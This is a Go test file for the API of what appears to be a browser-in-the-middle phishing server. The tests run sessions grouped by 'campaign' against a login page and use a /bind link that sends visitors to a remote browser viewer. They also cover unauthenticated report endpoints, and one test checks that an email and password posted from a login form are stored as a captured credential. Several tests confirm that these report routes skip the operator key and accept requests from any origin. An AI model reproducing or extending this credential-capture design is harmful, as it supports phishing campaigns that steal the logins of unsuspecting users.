package api

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap"

	"github.com/shehryarbajwa/browserbase-control/internal/browser/browsertest"
	"github.com/shehryarbajwa/browserbase-control/internal/hub"
	"github.com/shehryarbajwa/browserbase-control/internal/metrics"
	"github.com/shehryarbajwa/browserbase-control/internal/proxy"
	"github.com/shehryarbajwa/browserbase-control/internal/ratelimit"
	"github.com/shehryarbajwa/browserbase-control/internal/session"
	"github.com/shehryarbajwa/browserbase-control/internal/store"
	"github.com/shehryarbajwa/browserbase-control/pkg/models"
)

type testServer struct {
	*httptest.Server
	launcher *browsertest.Launcher
	store    *store.Memory
	client   *http.Client
}

func newTestServer(t *testing.T, operatorKey string, limiter *ratelimit.Limiter) *testServer {
	t.Helper()

	m := metrics.New()
	h := hub.New()
	ts := &testServer{
		launcher: &browsertest.Launcher{
			Configure: func(p *browsertest.Page) { p.Image = []byte("img") },
		},
		store: store.NewMemory(),
	}
	reg := session.NewRegistry(session.Deps{
		Launcher:    ts.launcher,
		Records:     ts.store,
		Credentials: ts.store,
		Hub:         h,
		Metrics:     m,
	}, session.Options{TargetURLs: []string{"https://login.example.com/"}})
	t.Cleanup(func() { _ = reg.Shutdown(context.Background()) })

	logger := zap.NewNop()
	handler := NewHandler(reg, "/viewer", logger)
	router := handler.SetupRoutes(Routes{
		DevTools:    proxy.NewDevToolsServer(reg, logger),
		Viewers:     proxy.NewViewerServer(reg, h, m, logger),
		Limiter:     limiter,
		Metrics:     m,
		OperatorKey: operatorKey,
	})

	ts.Server = httptest.NewServer(router)
	t.Cleanup(ts.Server.Close)
	ts.client = &http.Client{
		CheckRedirect: func(req *http.Request, via []*http.Request) error {
			return http.ErrUseLastResponse
		},
	}
	return ts
}

func (ts *testServer) do(t *testing.T, method, path string, body any, header ...string) *http.Response {
	t.Helper()
	var rdr io.Reader
	switch b := body.(type) {
	case nil:
	case string:
		rdr = strings.NewReader(b)
	default:
		raw, err := json.Marshal(b)
		require.NoError(t, err)
		rdr = bytes.NewReader(raw)
	}
	req, err := http.NewRequest(method, ts.URL+path, rdr)
	require.NoError(t, err)
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := ts.client.Do(req)
	require.NoError(t, err)
	t.Cleanup(func() { resp.Body.Close() })
	return resp
}

func decode[T any](t *testing.T, resp *http.Response) T {
	t.Helper()
	var v T
	require.NoError(t, json.NewDecoder(resp.Body).Decode(&v))
	return v
}

func (ts *testServer) create(t *testing.T, token string, header ...string) models.SessionInfo {
	t.Helper()
	resp := ts.do(t, "POST", "/v1/sessions", models.CreateSessionRequest{SessionToken: token, CampaignID: "camp"}, header...)
	require.Equal(t, http.StatusCreated, resp.StatusCode)
	return decode[models.SessionInfo](t, resp)
}

func TestSessionLifecycleOverHTTP(t *testing.T) {
	ts := newTestServer(t, "", nil)

	info := ts.create(t, "tok-1")
	assert.Equal(t, "tok-1", info.SessionToken)
	assert.Equal(t, models.StatusActive, info.Status)

	resp := ts.do(t, "GET", "/v1/sessions/tok-1", nil)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	assert.Equal(t, "https://login.example.com/", decode[models.SessionInfo](t, resp).CurrentURL)

	resp = ts.do(t, "GET", "/v1/sessions?campaignId=camp", nil)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	assert.Len(t, decode[[]models.SessionInfo](t, resp), 1)

	resp = ts.do(t, "GET", "/v1/sessions?campaignId=other", nil)
	assert.Empty(t, decode[[]models.SessionInfo](t, resp))

	resp = ts.do(t, "DELETE", "/v1/sessions/tok-1", nil)
	assert.Equal(t, map[string]bool{"closed": true}, decode[map[string]bool](t, resp))

	resp = ts.do(t, "DELETE", "/v1/sessions/tok-1", nil)
	assert.Equal(t, map[string]bool{"closed": false}, decode[map[string]bool](t, resp))

	resp = ts.do(t, "GET", "/v1/sessions/tok-1", nil)
	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
}

func TestCreateErrorsMapToStatusCodes(t *testing.T) {
	ts := newTestServer(t, "", nil)
	ts.create(t, "dup")

	tests := []struct {
		name string
		body any
		want int
	}{
		{"duplicate token", models.CreateSessionRequest{SessionToken: "dup", CampaignID: "camp"}, http.StatusConflict},
		{"missing campaign", models.CreateSessionRequest{SessionToken: "x"}, http.StatusBadRequest},
		{"malformed body", "{not json", http.StatusBadRequest},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			resp := ts.do(t, "POST", "/v1/sessions", tt.body)
			assert.Equal(t, tt.want, resp.StatusCode)
		})
	}
}

func TestLaunchFailureIsServiceUnavailable(t *testing.T) {
	ts := newTestServer(t, "", nil)
	ts.launcher.SetFail(true, true)

	resp := ts.do(t, "POST", "/v1/sessions", models.CreateSessionRequest{SessionToken: "t", CampaignID: "camp"})
	assert.Equal(t, http.StatusServiceUnavailable, resp.StatusCode)
}

func TestExecuteActionOverHTTP(t *testing.T) {
	ts := newTestServer(t, "", nil)
	ts.create(t, "tok")

	resp := ts.do(t, "POST", "/v1/sessions/tok/actions", map[string]any{
		"action": "click",
		"params": map[string]any{"selector": "#submit"},
	})
	require.Equal(t, http.StatusOK, resp.StatusCode)
	assert.True(t, decode[models.ActionResult](t, resp).Success)

	resp = ts.do(t, "POST", "/v1/sessions/tok/actions", map[string]any{"action": "bogus"})
	require.Equal(t, http.StatusOK, resp.StatusCode)
	result := decode[models.ActionResult](t, resp)
	assert.False(t, result.Success)
	assert.NotEmpty(t, result.Message)

	resp = ts.do(t, "POST", "/v1/sessions/missing/actions", map[string]any{"action": "getUrl"})
	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
}

func TestScreenshotContentTypes(t *testing.T) {
	ts := newTestServer(t, "", nil)
	ts.create(t, "tok")

	resp := ts.do(t, "GET", "/v1/sessions/tok/screenshot", nil)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	assert.Equal(t, "image/png", resp.Header.Get("Content-Type"))
	body, _ := io.ReadAll(resp.Body)
	assert.Equal(t, "img", string(body))

	resp = ts.do(t, "GET", "/v1/sessions/tok/screenshot?fast=true", nil)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	assert.Equal(t, "image/jpeg", resp.Header.Get("Content-Type"))

	resp = ts.do(t, "GET", "/v1/sessions/missing/screenshot", nil)
	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
}

func TestDebugURLPointsAtProxy(t *testing.T) {
	ts := newTestServer(t, "", nil)
	ts.create(t, "tok")

	resp := ts.do(t, "GET", "/v1/sessions/tok/debug", nil)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	body := decode[map[string]any](t, resp)
	assert.Contains(t, body["debuggingUrl"], "ws://127.0.0.1:9222/devtools/browser/")
	assert.True(t, strings.HasSuffix(body["proxyUrl"].(string), "/v1/sessions/tok/devtools"))
}

func TestReportsBypassOperatorKey(t *testing.T) {
	ts := newTestServer(t, "secret", nil)
	ts.create(t, "tok", "X-Operator-Key", "secret")

	resp := ts.do(t, "POST", "/v1/sessions/tok/report/form",
		`{"formData":{"email":"foo@bar.com","password":"hunter2"},"url":"https://login.example.com/"}`,
		"Content-Type", "text/plain")
	assert.Equal(t, http.StatusNoContent, resp.StatusCode)

	assert.Eventually(t, func() bool {
		return len(ts.store.Credentials("tok")) == 1
	}, time.Second, 10*time.Millisecond)
	cred := ts.store.Credentials("tok")[0]
	assert.Equal(t, "foo@bar.com", cred.EmailOrUsername)
	assert.Equal(t, "hunter2", cred.Password)
	assert.Equal(t, models.CaptureForm, cred.CaptureMethod)

	resp = ts.do(t, "POST", "/v1/sessions/tok/report/click", `{"element":{"tag":"BUTTON"},"url":"https://login.example.com/"}`)
	assert.Equal(t, http.StatusNoContent, resp.StatusCode)

	resp = ts.do(t, "POST", "/v1/sessions/tok/report/input", `not json`)
	assert.Equal(t, http.StatusNoContent, resp.StatusCode)

	resp = ts.do(t, "POST", "/v1/sessions/unknown/report/input", `{"fieldType":"password","value":"x"}`)
	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
}

func TestOperatorKeyGuardsTheAPI(t *testing.T) {
	ts := newTestServer(t, "secret", nil)

	resp := ts.do(t, "GET", "/v1/sessions", nil)
	assert.Equal(t, http.StatusUnauthorized, resp.StatusCode)

	resp = ts.do(t, "GET", "/v1/sessions", nil, "X-Operator-Key", "wrong")
	assert.Equal(t, http.StatusUnauthorized, resp.StatusCode)

	resp = ts.do(t, "GET", "/v1/sessions", nil, "X-Operator-Key", "secret")
	assert.Equal(t, http.StatusOK, resp.StatusCode)

	resp = ts.do(t, "GET", "/v1/sessions?key=secret", nil)
	assert.Equal(t, http.StatusOK, resp.StatusCode)

	resp = ts.do(t, "GET", "/healthz", nil)
	assert.Equal(t, http.StatusOK, resp.StatusCode)
}

func TestPreflightIsAnsweredForEveryRoute(t *testing.T) {
	ts := newTestServer(t, "secret", nil)

	resp := ts.do(t, "OPTIONS", "/v1/sessions/tok/report/form", nil)
	assert.Equal(t, http.StatusOK, resp.StatusCode)
	assert.Equal(t, "*", resp.Header.Get("Access-Control-Allow-Origin"))
}

func TestRateLimitPerCampaign(t *testing.T) {
	ts := newTestServer(t, "", ratelimit.NewLimiter(60, 2))

	for i := 0; i < 2; i++ {
		resp := ts.do(t, "GET", "/v1/sessions?campaignId=camp", nil)
		require.Equal(t, http.StatusOK, resp.StatusCode)
	}
	resp := ts.do(t, "GET", "/v1/sessions?campaignId=camp", nil)
	assert.Equal(t, http.StatusTooManyRequests, resp.StatusCode)
	assert.Equal(t, "0", resp.Header.Get("X-RateLimit-Remaining"))

	// another campaign has its own bucket
	resp = ts.do(t, "GET", "/v1/sessions?campaignId=other", nil)
	assert.Equal(t, http.StatusOK, resp.StatusCode)

	// screenshots are polled and not limited
	resp = ts.do(t, "GET", "/v1/sessions/missing/screenshot?campaignId=camp", nil)
	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
}

func TestBindRedirectsToViewer(t *testing.T) {
	ts := newTestServer(t, "", nil)
	ts.create(t, "tok")

	resp := ts.do(t, "GET", "/bind/tok", nil)
	require.Equal(t, http.StatusFound, resp.StatusCode)
	assert.Equal(t, "/viewer?session=tok", resp.Header.Get("Location"))

	resp = ts.do(t, "GET", "/bind/unknown", nil)
	assert.Equal(t, http.StatusNotFound, resp.StatusCode)
}

func TestBindRestoresClosedSession(t *testing.T) {
	ts := newTestServer(t, "", nil)
	ts.create(t, "tok")
	ts.do(t, "DELETE", "/v1/sessions/tok", nil)

	resp := ts.do(t, "GET", "/bind/tok", nil)
	require.Equal(t, http.StatusFound, resp.StatusCode)
	assert.Len(t, ts.launcher.Pages(), 2)

	resp = ts.do(t, "GET", "/v1/sessions/tok", nil)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	assert.Equal(t, models.StatusActive, decode[models.SessionInfo](t, resp).Status)
}

func TestMetricsEndpointCountsRequests(t *testing.T) {
	ts := newTestServer(t, "", nil)
	ts.do(t, "GET", "/v1/sessions", nil)

	resp := ts.do(t, "GET", "/metrics", nil)
	require.Equal(t, http.StatusOK, resp.StatusCode)
	body, _ := io.ReadAll(resp.Body)
	assert.Contains(t, string(body), `route="/v1/sessions"`)
}

func TestStatusFor(t *testing.T) {
	assert.Equal(t, http.StatusNotFound, statusFor(session.ErrSessionNotFound))
	assert.Equal(t, http.StatusConflict, statusFor(session.ErrSessionExists))
	assert.Equal(t, http.StatusTooManyRequests, statusFor(session.ErrCapacity))
	assert.Equal(t, http.StatusServiceUnavailable, statusFor(session.ErrLaunchFailure))
	assert.Equal(t, http.StatusGone, statusFor(session.ErrPageUnavailable))
	assert.Equal(t, http.StatusInternalServerError, statusFor(io.EOF))
}

func TestOriginOfPrefersForwardedFor(t *testing.T) {
	r := httptest.NewRequest("GET", "/", nil)
	r.RemoteAddr = "10.0.0.1:5555"
	assert.Equal(t, "10.0.0.1", originOf(r).IP)

	r.Header.Set("X-Forwarded-For", "203.0.113.7, 10.0.0.1")
	assert.Equal(t, "203.0.113.7", originOf(r).IP)
}
